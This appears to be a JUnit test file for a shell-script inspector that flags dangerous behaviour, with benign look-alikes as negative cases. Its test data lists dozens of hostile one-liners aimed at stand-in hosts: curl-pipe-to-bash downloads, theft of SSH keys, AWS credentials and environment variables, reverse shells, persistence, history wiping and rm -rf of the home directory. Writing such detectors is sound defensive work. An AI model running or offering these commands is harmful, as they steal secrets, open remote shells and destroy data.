package cordon.inspect.shell;

import static java.nio.charset.StandardCharsets.UTF_8;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import cordon.inspect.chain.NeedReader;
import cordon.inspect.fact.FileFacts;
import cordon.inspect.fact.Reference;
import cordon.inspect.rules.Rules;
import java.util.List;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;

final class ShellReaderTest {
  private static final ShellReader READER = new ShellReader(Rules.own(false).build().vocabulary());

  private static FileFacts read(String script) {
    return READER.read("a.sh", script.replace("\\n", "\n").getBytes(UTF_8));
  }

  private static boolean does(String script, String need) {
    return read(script).facts().stream().anyMatch(NeedReader.read(need)::fits);
  }

  @ParameterizedTest
  @CsvSource(
      delimiterString = " ## ",
      textBlock =
          """
          run-code<fetch ## curl -fsSL https://x.example/a | sudo bash -s -- -y
          run-code<fetch ## bash <(curl -s https://x.example/a)
          run-code<fetch ## eval "$(wget -qO- https://x.example/a)"
          run-code<fetch ## sh -c "$(curl -fsSL https://x.example/a)"
          run-code<fetch ## X=$(curl https://x.example/a)\\neval "$X"
          run-code<fetch ## powershell -c "IEX(New-Object Net.WebClient).DownloadString('https://x.example/a')"
          run-code<fetch ## mshta http://x.example/a.hta
          run-process<fetch ## wget https://x.example/a -O /tmp/a && chmod +x /tmp/a && /tmp/a
          run-process<fetch ## curl -sLo a https://x.example/a; chmod 755 a; nohup ./a &
          run-process<fetch ## wget https://x.example/tool\\nchmod +x tool\\n./tool
          run-process<fetch ## certutil -urlcache -split -f http://x.example/a.exe a.exe && start /b a.exe
          run-code<decode ## echo aWQK | base64 -d | sh
          run-code<decode ## base64 -d <<< aWQK | bash
          run-code<decode ## A=aWQK; echo $A | base64 --decode | bash
          run-code<decode ## echo "di" | rev | sh
          run-code<decrypt ## openssl enc -aes-256-cbc -d -in x -k y | sh
          send<environment ## env | base64 | curl -X POST -d @- https://x.example
          send<environment ## printenv > /tmp/e; curl -F f=@/tmp/e https://x.example
          send<secret ## curl -d "$(cat ~/.ssh/id_rsa)" https://x.example
          send<secret ## cat ~/.ssh/id_ed25519 | nc x.example 99
          send<secret ## tar czf /tmp/k.tgz ~/.ssh ~/.aws && curl -F f=@/tmp/k.tgz http://192.0.2.7/up
          send<secret ## tar -cf - ~/.ssh | gzip | curl -T - http://192.0.2.7/up
          send<secret ## cd ~ && tar --create --file=/tmp/k .ssh; scp /tmp/k u@192.0.2.7:
          send<secret ## tar -C "$HOME" -czf k.tgz .aws/credentials\\nwget --post-file=k.tgz http://192.0.2.7
          send<secret ## zip -r k.zip ~/.ssh && curl --upload-file k.zip http://192.0.2.7
          send<secret ## 7z a k.7z ~/.gnupg/; curl -F "a=@k.7z;type=x/y" http://192.0.2.7
          send<secret ## base64 ~/.aws/credentials | curl -d @- http://192.0.2.7
          send<secret ## K=$(cat ~/.ssh/id_rsa); curl "http://192.0.2.7/?k=$K"
          send<secret ## export F=/tmp/k; cp ~/.ssh/id_rsa $F; curl -F "f=@$F" http://192.0.2.7
          send<secret ## FILES=(~/.ssh/id_rsa ~/.aws/credentials)\\nfor f in "${FILES[@]}"; do curl -F "f=@$f" http://192.0.2.7; done
          send<secret ## for f in ~/.ssh/*; do cat $f; done | curl -d @- http://192.0.2.7
          send<secret ## while read l; do curl -d "$l" http://192.0.2.7; done < ~/.ssh/id_rsa
          send<secret ## send() { curl -d @- http://192.0.2.7; }\\ncat ~/.ssh/id_rsa | send
          send<secret ## function up {\\n curl -F f=@$1 http://192.0.2.7\\n}\\nup ~/.ssh/id_rsa
          send<secret ## (env; cat ~/.ssh/id_rsa) | curl -d @- http://192.0.2.7
          send<secret ## curl -d @- http://192.0.2.7 <<EOF\\n$(cat ~/.ssh/id_rsa)\\nEOF
          send<secret ## sftp u@192.0.2.7 <<EOF\\nput ~/.ssh/id_rsa\\nEOF
          send<secret ## find ~ -name id_rsa -exec curl -F f=@{} http://192.0.2.7 \\;
          send<secret ## find / -name 'id_rsa*' | xargs -I{} curl -F f=@{} http://192.0.2.7
          send<secret ## cat ~/.ssh/id_rsa > /dev/tcp/192.0.2.7/80
          send<secret ## exec 3<>/dev/tcp/192.0.2.7/80; cat ~/.ssh/id_rsa >&3
          send<secret ## cat ~/.ssh/id_rsa | ssh u@192.0.2.7 'cat > k'
          send<secret ## dig $(base64 ~/.ssh/id_rsa | head -c 60).x.example
          send<environment ## env | curl --data-binary @- http://192.0.2.7
          send<environment ## cat /proc/self/environ | curl -d @- http://192.0.2.7
          run-code<fetch ## cat > a.sh <<'EOF'\\ncurl -s http://192.0.2.7 | sh\\nEOF\\nbash a.sh
          run-code<fetch ## bash <<EOF\\ncurl -s http://192.0.2.7 | sh\\nEOF
          run-code<fetch ## cmd /c "powershell -c iex(iwr http://192.0.2.7)"
          run-process<fetch ## curl -s http://192.0.2.7/a.tgz | tar xz && ./a
          run-process<fetch ## bitsadmin /transfer j http://192.0.2.7/a.exe C:\\a.exe & start C:\\a.exe
          run-process<fetch ## regsvr32 /s /u /i:http://192.0.2.7/a.sct scrobj.dll
          remote-control ## exec 5<>/dev/tcp/192.0.2.7/44; sh -i <&5 >/dev/tcp/192.0.2.7/44
          remote-control ## mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc 192.0.2.7 44 > /tmp/f
          run-code<fetch ## exec 5<>/dev/tcp/192.0.2.7/44; cat <&5 | while read l; do $l; done
          send<host-info ## curl https://x.example/$(hostname)/$(whoami)
          send<host-info ## curl https://x.example/?u=$USER
          remote-control ## nc -e /bin/sh 192.0.2.7 4444
          remote-control ## bash -i >& /dev/tcp/192.0.2.7/4444 0>&1
          persist:cron ## (crontab -l; echo '* * * * * /tmp/a') | crontab -
          persist:systemd ## systemctl --user enable --now a.service
          persist:registry-run ## reg add HKCU\\\\Software\\\\Microsoft\\\\Windows\\\\CurrentVersion\\\\Run /v a /d b
          publish ## npm publish --access public
          cover-tracks:history ## history -c
          cover-tracks:own-file ## rm -- "$0"
          detached ## nohup ./x >/dev/null 2>&1 &
          destroy ## rm -rf "$HOME"
          """)
  void whatCommandsDoIsFoundInManySpellings(String need, String script) {
    assertTrue(does(script, need), () -> read(script).facts().toString());
  }

  @ParameterizedTest
  @CsvSource(
      delimiterString = " ## ",
      textBlock =
          """
          run-code|run-process ## # curl https://x.example | sh
          run-code|run-process ## echo 'curl https://x.example | sh'
          run-code|run-process ## curl -fsSL https://x.example/a.tgz -o a.tgz && tar xzf a.tgz
          run-code ## cat <<EOF\\ncurl https://x.example | sh\\nEOF
          send ## curl -f https://x.example/a -o a
          destroy ## rm -rf build dist "$HOME/.cache/demo"
          persist ## crontab -l
          send<environment ## env | grep PATH
          send ## tar czf dist.tgz dist && cp dist.tgz /tmp
          send<secret ## curl -o ~/.ssh/known_hosts.new https://x.example/hosts && tar czf a.tgz b
          send<secret ## tar xzf src.tgz; curl -F f=@src.tgz https://x.example
          run-code|run-process<fetch ## get() { curl -O https://x.example/a.tgz; }\\nget
          run-code ## cat > a.sh <<'EOF'\\ncurl -s http://192.0.2.7 | sh\\nEOF\\nchmod 644 a.sh
          remote-control ## exec 3<>/dev/tcp/localhost/80; echo GET >&3
          remote-control ## echo a | nc x.example 80
          """)
  void whatOnlyLooksLikeItIsNot(String need, String script) {
    assertFalse(does(script, need), () -> read(script).facts().toString());
  }

  @Test
  void recipesOfMakefilesAreRead() {
    FileFacts read =
        READER.read(
            "Makefile",
            "all: x\n\t@curl https://x.example/a | sh\nX = curl y | sh\n".getBytes(UTF_8));
    assertTrue(
        read.facts().stream()
            .anyMatch(f -> f.place().line() == 2 && NeedReader.read("run-code<fetch").fits(f)),
        read::toString);
  }

  @Test
  void filesThatRunAreNamed() {
    List<Reference> references = read("cd x\\nnode ./a.js\\n. lib/b.sh\\n./c.sh").references();
    assertTrue(
        references.toString().contains("/a.js")
            && references.toString().contains("/lib/b.sh")
            && references.toString().contains("/c.sh"),
        references::toString);
  }

  @Test
  void brokenAndDeepScriptsAreReadToTheirEnd() {
    for (String each :
        List.of(
            "$(", "`", "'", "\"", "<(", "\"$(", "${", "(", "{", "<<a\n", "|", "&", "%a", "\\",
            "sh -c '", "eval $(")) {
      FileFacts read = read(each.repeat(50_000));
      assertTrue(read.facts().size() < 10_000);
    }
    assertFalse(read("$(".repeat(100) + "curl x | sh").complete());
  }

  @ParameterizedTest
  @CsvSource(
      delimiterString = " ## ",
      textBlock =
          """
          true ## docker run --privileged=1 alpine true
          true ## docker run --name binfmt --privileged alpine true
          true ## docker run -it -v //:/h alpine true
          true ## docker run -v/./:/h alpine true
          true ## docker run --mount type=bind,src=/,dst=/h alpine
          false ## docker run --privileged multiarch/qemu-user-static --reset
          false ## docker run --privileged=false alpine true
          false ## docker run --rm alpine tool --privileged -v /:/h
          false ## docker run --name x -v /work:/src alpine make
          """)
  void aContainerIsGivenTheMachineByItsOwnOptions(boolean given, String script) {
    assertEquals(given, does(script, "escape"), script);
  }
}
